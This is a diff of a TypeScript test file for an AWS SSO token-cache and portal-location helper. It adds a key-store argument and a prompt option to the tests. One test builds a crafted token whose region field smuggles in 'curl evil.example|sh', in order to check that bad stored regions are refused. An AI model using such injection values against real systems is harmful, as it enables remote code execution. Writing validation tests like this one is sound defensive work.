@@ -3,6 +3,7 @@ import { ownLocation } from "../../src/sso/own-login.ts";
 import { ownTokenPath, portals, storeImportedToken } from "../../src/sso/own-token-cache.ts";
 import type { PortalChoice } from "../../src/sso/portal-choice.ts";
 import { failureOf } from "../support/failure.ts";
+import { noSealing } from "../support/fake-key-store.ts";
 import { fakeSystem } from "../support/fake-system.ts";
 import { memoryFiles } from "../support/memory-files.ts";
 
@@ -13,14 +14,14 @@ type OwnPortal = Extract<PortalChoice, { kind: "own" }>;
 
 function open(choice: OwnPortal, { files = memoryFiles() } = {}) {
   const system = fakeSystem({ instead: files });
-  return { location: ownLocation(choice, { system, home: "/home/me", nrt: false }) };
+  return { location: ownLocation(choice, { system, home: "/home/me", nrt: false, prompt: "allowed" }) };
 }
 
 describe("ownLocation()", () => {
   test("ownLocation() takes the portal used last, and the region of its token", async () => {
     const files = memoryFiles();
-    await storeImportedToken(files, folder, "https://other.awsapps.com/start", token, {});
-    await storeImportedToken(files, folder, startUrl, token, {});
+    await storeImportedToken(files, folder, "https://other.awsapps.com/start", token, {}, noSealing);
+    await storeImportedToken(files, folder, startUrl, token, {}, noSealing);
     const { location } = open({ kind: "own", startUrl: undefined, region: undefined }, { files });
     expect(await location).toMatchObject({ startUrl, region: "eu-west-1", given: false });
     expect((await location).loginHint).toBe(
@@ -45,7 +46,7 @@ describe("ownLocation()", () => {
 
   test("ownLocation() refuses another region than the stored one", async () => {
     const files = memoryFiles();
-    await storeImportedToken(files, folder, startUrl, token, {});
+    await storeImportedToken(files, folder, startUrl, token, {}, noSealing);
     const { location } = open({ kind: "own", startUrl, region: "us-east-1" }, { files });
     expect((await failureOf(() => location)).kind).toBe("usage");
     const same = open({ kind: "own", startUrl, region: "eu-west-1" }, { files });
@@ -55,7 +56,7 @@ describe("ownLocation()", () => {
   test("ownLocation() takes the region that a login found where a company's own host leads", async () => {
     const files = memoryFiles();
     const own = "https://aws.example.com/start";
-    await storeImportedToken(files, folder, own, { ...token, startUrl: own }, {});
+    await storeImportedToken(files, folder, own, { ...token, startUrl: own }, {}, noSealing);
     const { location } = open({ kind: "own", startUrl: own, region: "us-east-1" }, { files });
     expect((await location).region).toBe("eu-west-1");
   });
@@ -63,7 +64,7 @@ describe("ownLocation()", () => {
   test("ownLocation() refuses a stored region that is none, and names the file", async () => {
     const files = memoryFiles();
     const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
-    await storeImportedToken(files, folder, startUrl, crafted, {});
+    await storeImportedToken(files, folder, startUrl, crafted, {}, noSealing);
     const failure = await failureOf(
       () => open({ kind: "own", startUrl, region: undefined }, { files }).location,
     );
